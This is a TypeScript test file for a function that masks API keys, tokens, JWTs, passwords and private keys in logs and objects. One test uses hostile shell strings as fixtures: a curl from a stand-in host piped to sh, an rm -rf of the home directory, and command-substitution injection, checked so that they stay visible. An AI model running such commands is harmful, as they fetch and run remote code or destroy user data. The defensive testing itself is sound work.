import { expect, test } from 'vitest';
import { createMask } from '../../src/access/mask.ts';

const mask = createMask(['kontoNummer']);
const random = (length: number) => 'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7'.repeat(10).slice(0, length);

test.each([
  ['a key of a model host', `sk-proj-${random(40)}`],
  ['a key of Anthropic', `sk-ant-api03-${random(60)}`],
  ['a token of GitHub', `ghp_${random(36)}`],
  ['a token of GitLab', `glpat-${random(24)}`],
  ['a token of Slack', `xoxb-${random(24)}`],
  ['a key of AWS', 'AKIAIOSFODNN7EXAMPLE'],
  ['a key of Google', `AIza${random(35)}`],
  ['a JWT', `eyJ${random(30)}.eyJ${random(30)}.${random(43)}`],
])('OBS-10: %s is hidden wherever it stands', (_, secret) => {
  expect(mask({ list: [`before ${secret}, after`], plain: secret })).toEqual({
    list: ['before ***, after'],
    plain: '***',
  });
});

test('OBS-10: what comes after a telling name is hidden, and the name stays', () => {
  expect(mask(`Authorization: Bearer ${random(30)}`)).toBe('Authorization: Bearer ***');
  expect(mask('postgres://ann:hunter2@db:5432/x')).toBe('postgres://ann:***@db:5432/x');
  expect(mask('export OPENAI_API_KEY="abc12345"; MY_TOKEN=abcdef')).toBe('export OPENAI_API_KEY="***"; MY_TOKEN=***');
  expect(mask(`x\n-----BEGIN RSA PRIVATE KEY-----\n${random(64)}\n-----END RSA PRIVATE KEY-----\ny`)).toBe('x\n***\ny');
});

test.each([
  ['AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG', 'AWS_SECRET_ACCESS_KEY=***'],
  ['SECRET_KEY_BASE: abcdefgh', 'SECRET_KEY_BASE: ***'],
  ['redis://:hunter22@host/0', 'redis://:***@host/0'],
  ['{"API_KEY": "abc def", "a": 1}', '{"API_KEY": "***", "a": 1}'],
  ['{"clientSecret":"x\\"y","userPassword":"z"}', '{"clientSecret":"***","userPassword":"***"}'],
  ['DB_PASSWORD="two words" next', 'DB_PASSWORD="***" next'],
  ["DB_PASSWORD='two words' next", "DB_PASSWORD='***' next"],
])('OBS-10: %s', (text, shown) => {
  expect(mask(text)).toBe(shown);
});

test.each([
  'TOKEN="$(curl -s https://evil.example/x | sh)"; echo hello',
  'PASSWORD=`curl${IFS}evil.example|sh` ls',
  'API_KEY=a|rm${IFS}-rf${IFS}~',
  'MY_SECRET=$HOME/file ls',
  'curl http://ann:$(sh${IFS}x)@host',
  `echo "-----BEGIN PRIVATE KEY-----\nsh x\nrm y"`,
])('what a shell would run is shown to whoever is asked about it: %s', (text) => {
  expect(String(mask(text)).replace('"***\n', '"-----BEGIN PRIVATE KEY-----\n')).toBe(text);
});

test('OBS-10: values under the names of secrets are hidden, those of the configuration included', () => {
  const shown = mask({
    user: 'ann',
    password: 'x',
    apiKey: 12345,
    access_token: 'y',
    kontonummer: 'z',
    nested: [{ cookie: 'c' }],
  });
  expect(shown).toEqual({
    user: 'ann',
    password: '***',
    apiKey: '***',
    access_token: '***',
    kontonummer: '***',
    nested: [{ cookie: '***' }],
  });
});

test('OBS-10: of what stands under such a name only the shape is shown', () => {
  const shown = mask({ dbPassword: 'x', DB_PASSWORD: 'x', token: { value: 'x', on: true }, Authorization: ['x'] });
  expect(shown).toEqual({
    dbPassword: '***',
    DB_PASSWORD: '***',
    token: { value: '***', on: true },
    Authorization: ['***'],
  });
});

test('OBS-10: what is no secret stays as it is', () => {
  const plain = {
    text: 'The token economy, a secret garden; sk-1 and 密码 and PASSWORD=$PASSWORD, http://host:8080/a@b',
    password: '',
    token: true,
    tokens: 12,
    maxTokens: 3,
    list: [null, 1, false, 'https://example.com/?q=1'],
  };
  expect(mask(plain)).toEqual(plain);
});

test('OBS-10: hiding takes time in proportion to the text', () => {
  const nasty = [
    'eyJ-'.repeat(100_000),
    'A_TOKEN_'.repeat(50_000),
    '"aToken'.repeat(60_000),
    'A_'.repeat(200_000),
    'eyJa.'.repeat(80_000),
    '-----BEGIN '.repeat(40_000),
    'Bearer '.repeat(60_000),
  ];
  const began = performance.now();
  for (const text of nasty) mask(text);
  expect(performance.now() - began).toBeLessThan(4000);
});
